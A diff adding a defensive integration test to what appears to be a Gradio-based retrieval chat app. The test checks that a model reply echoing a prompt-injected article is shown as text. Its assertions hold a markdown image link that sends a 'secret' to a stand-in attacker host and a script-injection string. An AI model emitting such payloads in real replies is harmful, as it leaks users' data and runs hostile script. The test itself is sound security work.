@@ -132,3 +132,33 @@ def test_the_file_route_serves_nothing_outside_gradios_temp_folder(served, fake_
     back = served.get(f"/gradio_api/file={up.json()[0]}")
     assert back.status_code == 200 and back.text == "hello from the temp folder"
     print(f"\nfile route: {refused} of {len(paths)} outside paths refused; an uploaded file is served")
+
+
+def test_a_hostile_model_reply_loads_nothing_from_outside(open_page, tmp_path):
+    """The model repeats an injected article's markup (answer checks off, so it reaches the page
+    unfiltered): it is shown as text, and Chromium's network log has no request off 127.0.0.1."""
+    from rag.articles import load_paths
+    from rag.indexing import load_index, update_index
+    from rag.pipeline import Pipeline
+    from rag.settings import Settings
+    from tests.conftest import SEEDS
+    from tests.fakes import HashEmbedder, ScriptedGenerator
+    from tests.integration.test_page_load import start
+
+    from .conftest import HOSTILE
+    from .test_chat_page import assert_inert
+
+    s = Settings(index_dir=tmp_path / "index", chunk_tokens=40, chunk_overlap=8, min_score=0.05)
+    emb = HashEmbedder()
+    update_index(s.index_dir, load_paths([SEEDS]).articles, emb, s)
+    pipe = Pipeline(emb, load_index(s.index_dir, emb.name), ScriptedGenerator(HOSTILE + " [1]"), s, checks=frozenset())
+    demo, url = start(pipe)
+    try:
+        page, watch = open_page(url.rstrip("/"))
+        result = ask(page, "Who led the US delegation at the Geneva talks?")
+        assert "![chart](http://evil.example/leak?q=secret)" in result["answer"]  # shown as text
+        assert "<script>window.pwned=1</script>" in result["answer"]
+        assert_inert(page, watch)
+        print(f"\nhostile reply: {len(watch.requests)} requests, {len(watch.outside)} off 127.0.0.1")
+    finally:
+        demo.close()
